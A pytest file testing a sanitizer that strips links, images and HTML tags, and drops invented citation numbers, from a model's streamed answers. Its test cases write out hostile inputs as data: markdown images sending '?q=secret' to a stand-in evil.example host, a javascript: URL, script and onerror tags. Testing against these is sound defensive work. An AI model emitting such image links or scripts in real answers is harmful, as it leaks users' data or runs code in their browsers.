"""RELIABILITY F8: nothing in an answer loads, leads or runs, whatever a model writes and however it is cut."""

import random
import re

import pytest

from weft_models.answering.inert import InertStream

SOURCES = "See https://weft.example/guide. And http://evil.example/?q= is an address."

CASES = [
    ("![x](http://evil.example/?q=secret)", "x"),
    ("[click](http://evil.example/a)", "click"),
    ("[click](javascript:alert(1))", "click"),
    ("![](data:image/png;base64,AAAA)", ""),
    ("see http://evil.example/?q=secret now", "see (link removed) now"),
    ("see https://weft.example/guide.", "see https://weft.example/guide."),
    ("see https://weft.example/guide/more", "see (link removed)"),
    ("www.evil.example/x", "(link removed)"),
    ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
    ("<img src=x onerror=y>", "&lt;img src=x onerror=y>"),
    ("a < b and 3 <4", "a < b and 3 <4"),
    ("[a]: http://evil.example/\nnext", "\nnext"),
    ("Oslo [1]. Rome [2, 3] and [9].", "Oslo [1]. Rome [2][3] and ."),
    ("[sic] and [1](http://evil.example)", "[sic] and [1]"),
    ("[a[b](http://x.example)](http://evil.example)", None),
    ("![[x]](http://evil.example)", None),
    ("![a\n](http://evil.example\n)", None),
    ("hTTps://evil.example/x ![y] (http://evil.example)", None),
    ("![a]( http://evil.example ) [b]:http://evil.example", None),
    ("[" * 5_000 + "](http://evil.example)", None),
]


def run(text: str, rng: random.Random | None = None) -> tuple[str, InertStream]:
    """The text fed whole, or in random pieces."""
    stream = InertStream(3, SOURCES)
    out = []
    while text:
        size = len(text) if rng is None else rng.randint(1, 9)
        out.append(stream.feed(text[:size]))
        text = text[size:]
    return "".join([*out, stream.flush()]), stream


def result(text: str, rng: random.Random | None = None) -> str:
    return run(text, rng)[0]


def is_inert(text: str) -> bool:
    link = re.search(r"\]\(|!\[|\]:\s*\S", text)
    tag = re.search(r"<[A-Za-z/!?]", text)
    addresses = [a for a in re.findall(r"(?:[a-z]+://|www\.)\S+", text, re.IGNORECASE) if a.rstrip(".") not in SOURCES]
    return link is None and tag is None and not addresses


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_whole(text: str, expected: str | None) -> None:
    found = result(text)
    assert is_inert(found)
    assert expected is None or found == expected


@pytest.mark.parametrize("seed", range(10))
def test_in_pieces(seed: int) -> None:
    rng = random.Random(seed)  # noqa: S311 - not for secrets
    for text, expected in CASES:
        found = result(text, rng)
        assert is_inert(found), (text, found)
        if expected is not None:
            assert found == expected


def test_invented_citations_are_dropped_and_counted() -> None:
    _, stream = run("Oslo [1]. Rome [7] and [2][99], again [1].", random.Random(3))  # noqa: S311 - not for secrets
    assert (stream.cited, stream.dropped) == ([1, 2], 2)


def test_plain_text_passes_at_once_up_to_the_last_word() -> None:
    stream = InertStream(3, "")
    assert stream.feed("Oslo is the cap") == "Oslo is the "
    assert stream.feed("ital [1") == "capital "
    assert stream.feed("]. ") == "[1]. "
